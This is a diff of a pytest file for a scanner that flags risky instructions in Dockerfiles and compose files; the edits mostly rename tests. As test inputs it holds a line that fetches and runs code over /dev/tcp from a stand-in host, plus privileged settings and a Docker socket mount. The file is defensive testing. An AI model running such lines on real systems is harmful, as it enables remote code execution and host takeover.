@@ -1,4 +1,4 @@
-"""What must not be built is found before anything is: in Dockerfiles and compose files, however it is written."""
+"""The scan of Dockerfiles and compose files finds forbidden instructions, however they are written."""
 
 from __future__ import annotations
 
@@ -73,10 +73,10 @@ volumes:
 
 
 def kinds(path: str, text: str) -> set[ContainerRisk]:
-    return {it.kind for it in scan_container_files({path: text})}
+    return {finding.kind for finding in scan_container_files({path: text})}
 
 
-def test_ordinary_files_are_let_through() -> None:
+def test_ordinary_container_files_are_accepted() -> None:
     assert scan_container_files({"Dockerfile": PLAIN, "docker-compose.yml": COMPOSE, "a.py": "x"}) == ()
 
 
@@ -132,7 +132,7 @@ def test_ordinary_files_are_let_through() -> None:
         'RUN bash -c "$(cat </dev/tcp/example.com/80)"',
     ],
 )
-def test_running_what_was_just_fetched_is_refused(run: str) -> None:
+def test_running_a_downloaded_program_is_refused(run: str) -> None:
     text = run if run.startswith("# escape") else f"FROM debian\n{run}\n"
     assert kinds("Dockerfile", text) == {ContainerRisk.PIPE_TO_SHELL}
 
@@ -157,7 +157,7 @@ def test_running_what_was_just_fetched_is_refused(run: str) -> None:
         "RUN a=" + "b" * 20_000,
     ],
 )
-def test_a_command_that_hides_what_it_runs_is_refused(line: str) -> None:
+def test_a_command_that_conceals_its_program_is_refused(line: str) -> None:
     assert kinds("Dockerfile", f"FROM debian\n{line}\n") == {ContainerRisk.PIPE_TO_SHELL}
 
 
@@ -169,7 +169,7 @@ def test_a_command_that_hides_what_it_runs_is_refused(line: str) -> None:
         *("/su/sudo -E ", "xargs -I {} ", "-u sudo ", "env 5 5= "),
     ],
 )
-def test_a_dockerfile_that_is_made_to_be_hard_to_read_is_read_without_a_wait(part: str, start: str) -> None:
+def test_a_deliberately_complex_dockerfile_is_scanned_quickly(part: str, start: str) -> None:
     scan_container_files(
         {"Dockerfile": f"FROM debian\nRUN {start}{part * (15_000 // len(part))}\n" + "RUN a=$a$a\n" * 60}
     )
@@ -202,13 +202,13 @@ def test_a_dockerfile_that_is_made_to_be_hard_to_read_is_read_without_a_wait(par
         ("FROM ${REGISTRY}/debian", ContainerRisk.UNREADABLE),
     ],
 )
-def test_what_reaches_for_the_machine_is_refused_in_a_dockerfile(line: str, kind: ContainerRisk) -> None:
+def test_access_to_the_machine_is_refused_in_a_dockerfile(line: str, kind: ContainerRisk) -> None:
     (found,) = scan_container_files({"deploy/app.Dockerfile": f"FROM debian\n{line}\n"})
     assert (found.path, found.line, found.kind) == ("deploy/app.Dockerfile", 2, kind)
     assert found.sentence.endswith(".")
 
 
-def test_another_builder_than_the_usual_one_is_refused() -> None:
+def test_a_custom_dockerfile_syntax_is_refused() -> None:
     assert kinds("Dockerfile", "# syntax=docker/dockerfile:1\nFROM debian\n") == set()
     assert kinds("Dockerfile", "# syntax=example.com/builder\nFROM debian\n") == {ContainerRisk.REMOTE}
 
@@ -259,19 +259,22 @@ def test_another_builder_than_the_usual_one_is_refused() -> None:
         ("image: ${REGISTRY}/debian", ContainerRisk.UNREADABLE),
     ],
 )
-def test_what_reaches_for_the_machine_is_refused_in_a_compose_file(lines: str, kind: ContainerRisk) -> None:
+def test_access_to_the_machine_is_refused_in_a_compose_file(lines: str, kind: ContainerRisk) -> None:
     found = kinds("compose.yaml", f"services:\n  web:\n    image: debian\n    {lines}\n")
     assert kind in found
     assert found <= {kind, ContainerRisk.UNREADABLE, ContainerRisk.HOST_MOUNT}
 
 
 @pytest.mark.feature("S0.64")
-def test_the_engines_socket_is_never_given_away() -> None:
+def test_the_socket_of_the_engine_is_never_shared() -> None:
     text = "services:\n  web:\n    image: a\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n"
     found = scan_container_files({"docker-compose.override.yml": text})
-    assert {(it.line, it.kind) for it in found} == {(5, ContainerRisk.ENGINE_SOCKET), (5, ContainerRisk.HOST_MOUNT)}
+    assert {(finding.line, finding.kind) for finding in found} == {
+        (5, ContainerRisk.ENGINE_SOCKET),
+        (5, ContainerRisk.HOST_MOUNT),
+    }
 
 
-def test_a_compose_file_that_is_no_plain_yaml_is_refused_whole() -> None:
+def test_a_compose_file_that_is_not_plain_yaml_is_refused() -> None:
     assert kinds("compose.yml", '{"services": {"web": {"privileged": true}}}') == {ContainerRisk.UNREADABLE}
     assert kinds("compose.yml", "services:\n\tweb:\n") == {ContainerRisk.UNREADABLE}
